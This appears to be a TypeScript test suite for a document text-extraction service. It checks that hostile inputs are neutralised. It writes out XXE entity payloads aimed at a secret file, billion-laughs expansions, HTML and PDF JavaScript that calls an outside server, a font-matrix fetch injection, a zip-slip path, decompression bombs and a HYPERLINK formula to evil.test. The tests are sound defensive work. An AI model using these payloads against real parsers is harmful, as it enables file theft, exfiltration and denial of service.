/** Hostile documents in the real process: the outcome of each, and that the next document is read. */
import { createServer } from 'node:http';
import { once } from 'node:events';
import type { AddressInfo } from 'node:net';
import { Readable } from 'node:stream';
import { mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { pathToFileURL } from 'node:url';
import { afterAll, describe, expect, it } from 'vitest';
import { AppError } from '../app-error.ts';
import { unlistedParts, zipOf } from '../testing/office-files.ts';
import { startExtraction } from './extraction.ts';
import { swollenDocument, workbookOf } from './testing/documents.ts';
import { smallDocument, smallDocumentTypes as types } from './testing/small-documents.ts';
import { withCrossReferences } from './testing/pdf-file.ts';

const extraction = startExtraction();
const secret = 'the-content-of-another-file';
const folder = mkdtempSync(`${tmpdir()}/polylogue-hostile-`);
const secretFile = pathToFileURL(`${folder}/secret.txt`).href;

/** Paths of requests to the canary server; must stay empty. */
const asked: string[] = [];

writeFileSync(`${folder}/secret.txt`, secret);
const canary = createServer((request, response) => {
  asked.push(request.url ?? '');
  response.end(secret);
}).listen(0, '127.0.0.1');
await once(canary, 'listening');
const outside = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`;
afterAll(async () => {
  await extraction.stop();
  canary.close();
  rmSync(folder, { recursive: true });
});

/** Returns the extracted text, or the error code. */
async function readingOf(name: string, content: Buffer | string, mediaType = 'text/plain'): Promise<string> {
  const open = async () => Readable.from([Buffer.from(content)]);
  try {
    return (await extraction.extract(open, { name, mediaType })).text;
  } catch (error) {
    if (error instanceof AppError) return error.code;
    throw error;
  }
}

const kinds = ['docx', 'xlsx', 'pptx', 'odt', 'epub'] as const;

describe('external entities', () => {
  it.each(kinds)('reads %s without a document type', async (kind) => {
    const head = '<?xml version="1.0"?>';
    const read = await readingOf(`leave.${kind}`, smallDocument[kind]('27 days', head), types[kind]);
    expect(read).toContain('Leave: 27 days');
  });

  it.each(kinds)('resolves no file or URL entity in %s', async (kind) => {
    for (const address of [secretFile, `${outside}/entity`]) {
      const head = `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY e SYSTEM "${address}"><!ENTITY % p SYSTEM "${address}"> %p;]>`;
      const read = await readingOf(`leave.${kind}`, smallDocument[kind]('&e;', head), types[kind]);
      expect(read).not.toContain(secret);
    }
    expect(asked).toEqual([]);
  });

  it.each(kinds)('expands no nested entities in %s', async (kind) => {
    const names = 'abcdefghij'.split('');
    const entities = names.map(
      (name, index) => `<!ENTITY ${name} "${index === 0 ? 'lol' : `&${names[index - 1]};`.repeat(10)}">`,
    );
    const read = await readingOf(
      `leave.${kind}`,
      smallDocument[kind]('&j;', `<?xml version="1.0"?><!DOCTYPE d [${entities.join('')}]>`),
      types[kind],
    );
    expect(read.length).toBeLessThan(10_000);
  });

  it.each(['leave.html', 'leave.pdf', 'leave'])('strips scripts from a page named %s', async (name) => {
    const page = `<!doctype html><html><body onload="steal()"><script>steal()</script><p>27 days</p></body></html>`;
    expect((await readingOf(name, page)).trim()).toBe('27 days');
  });

  it('fetches nothing for a page', async () => {
    const page = [
      `<meta http-equiv="refresh" content="0;url=${outside}/refresh"><base href="${outside}/"><link rel="stylesheet" href="a.css">`,
      `<style>@import "${outside}/import"; @font-face { font-family: f; src: url(${outside}/font) }</style>`,
      `<h1 onclick="fetch('${outside}/click')">Leave</h1><p>27 days</p><img src="${outside}/picture" srcset="${outside}/two 2x">`,
      `<iframe src="${outside}/frame"></iframe><object data="${outside}/object"></object><svg><image href="${secretFile}"/></svg>`,
    ].join('\n');
    const read = await readingOf('leave.html', page);
    expect(read).toContain('27 days');
    expect(read).not.toMatch(/refresh|onclick|import|font|127\.0\.0\.1/);
    expect(asked).toEqual([]);
  });
});

it.each([
  ['odt', 'scans all entries', 'file.too_complex'],
  ['docx', 'uses the index', 'file.no_text'],
] as const)(
  'refuses an archive of a million duplicate entries quickly: %s, whose reader %s',
  { timeout: 60_000 },
  async (kind, _how, code) => {
    const before = performance.now();
    expect(await readingOf(`leave.${kind}`, unlistedParts(1_000_000), types[kind])).toBe(code);
    // The first document waits for the process to start.
    expect(performance.now() - before).toBeLessThan(30_000);
    expect(await readingOf('leave.md', '27 days')).toBe('27 days');
  },
);

describe('hostile PDFs', () => {
  it('runs no actions of a PDF', async () => {
    const script = `(app.launchURL\\("${outside}/script"\\); this.submitForm\\("${outside}/form"\\);)`;
    const content = 'BT /F 12 Tf 50 700 Td (Everybody has 27 days of leave.) Tj ET';
    const pdf = withCrossReferences([
      `<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 6 0 R >> /Names << /JavaScript << /Names [(a) 6 0 R] >> >> /AcroForm << /Fields [7 0 R] /XFA (<x>${outside}/xfa</x>) >> >>`,
      '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
      '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F 3 0 R >> >> /Contents 5 0 R /Annots [7 0 R 8 0 R] >>',
      `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
      `<< /S /JavaScript /JS ${script} >>`,
      '<< /Type /Annot /Subtype /Widget /FT /Tx /T (f) /V (x) /Rect [0 0 1 1] /A 6 0 R >>',
      `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (${folder}/secret.txt) >> >>`,
    ]);
    const read = await readingOf('leave.pdf', pdf, 'application/pdf');
    expect(read).toContain('Everybody has 27 days of leave.');
    expect(read).not.toMatch(/launchURL|submitForm|another-file/);
    expect(asked).toEqual([]);
  });

  it('runs no code of a font', async () => {
    const content = 'BT /F 12 Tf 50 700 Td (Bikes stand in the yard.) Tj ET';
    const pdf = withCrossReferences([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
      `<< /Type /Font /Subtype /Type1 /BaseFont /X /FirstChar 0 /LastChar 1 /Widths [1 1] /FontMatrix [1 2 3 4 5 (0\\); fetch\\('${outside}/font'\\)//)] >>`,
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F 3 0 R >> >> /Contents 5 0 R >>',
      `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    ]);
    expect(await readingOf('bikes.pdf', pdf, 'application/pdf')).toContain('Bikes stand in the yard.');
    expect(asked).toEqual([]);
  });

  it('terminates on cyclic page trees', async () => {
    const pdf = withCrossReferences([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 1000000 /Parent 2 0 R >>',
    ]);
    expect(await readingOf('loop.pdf', pdf, 'application/pdf')).toMatch(
      /^file\.(unreadable|too_complex|no_text)$/,
    );
  }, 60_000);
});

describe('oversized documents', () => {
  it.each([
    ['pages in pages', 'deep.html', `${'<div>'.repeat(50_000)}end`],
    ['quotes in quotes', 'deep.md', `${'>'.repeat(200_000)} end`],
    ['a table of one row of very many columns', 'wide.csv', `${'a,'.repeat(50_000)}end`],
    ['a line of ten million characters', 'long.txt', 'word '.repeat(2_000_000)],
  ])(
    'reads or refuses %s, then reads the next document',
    async (_what, name, content) => {
      const read = await readingOf(name, content);
      expect(read.startsWith('file.') ? read : 'read').toMatch(/^(read|file\.(too_complex|unreadable))$/);
      expect(await readingOf('notes.txt', 'Hello')).toBe('Hello');
    },
    120_000,
  );

  it.each([
    ['message/rfc822', 'inner.eml'],
    ['text/plain', 'inner.EML'],
  ])(
    'reads nested mails to the third level, as %s named %s',
    async (type, name) => {
      let mail = 'Subject: deepest\r\n\r\nThe end.';
      for (let depth = 0; depth < 200; depth += 1) {
        mail = `Subject: ${depth}\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b${depth}\r\n\r\n--b${depth}\r\n\r\nLetter ${depth}.\r\n--b${depth}\r\nContent-Type: ${type}; name=${name}\r\nContent-Disposition: attachment; filename=${name}\r\n\r\n${mail}\r\n--b${depth}--`;
      }
      const read = await readingOf('outer.eml', mail);
      expect(read).toContain('Letter 199.');
      expect(read).toContain('Letter 196.');
      expect(read).not.toContain('Letter 195.');
      expect(read).toContain('A mail within several others');
    },
    60_000,
  );

  it('reads a page of unclosed tags in linear time', async () => {
    const page = `<p>Lunch is at noon.</p>${'<meta '.repeat(100_000)}`;
    expect(await readingOf('lunch.html', page)).toContain('Lunch is at noon.');
  }, 30_000);

  it('reads a mail despite an attached decompression bomb', async () => {
    const bomb = (await swollenDocument(120_000_000)).toString('base64');
    const mail = `Subject: Lunch\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n\r\nLunch is at noon.\r\n--x\r\nContent-Type: ${types.docx}; name=menu.docx\r\nContent-Disposition: attachment; filename=menu.docx\r\nContent-Transfer-Encoding: base64\r\n\r\n${bomb}\r\n--x--`;
    const read = await readingOf('lunch.eml', mail);
    expect(read).toContain('Lunch is at noon.');
    expect(read).toContain('menu.docx: it takes too much to read and was not read.');
  }, 60_000);
});

describe('archive entries', () => {
  it('writes no entry outside the archive', async () => {
    const climbing = zipOf({
      '[Content_Types].xml': '<Types/>',
      [`../../../../../..${folder}/climbed.txt`]: secret,
      'word/document.xml': '<w:document/>',
    });
    expect(await readingOf('climb.docx', climbing, types.docx)).toMatch(/^file\.(unreadable|no_text)$/);
    expect(readdirSync(folder)).toEqual(['secret.txt']);
  });

  it('keeps formulas as text', async () => {
    const workbook = await workbookOf({
      Prices: [
        ['Name', 'Price'],
        ['=HYPERLINK(&quot;http://evil.test&quot;)', '@SUM(1)'],
      ],
    });
    expect(await readingOf('prices.xlsx', workbook, types.xlsx)).toContain('@SUM(1)');
  });
});
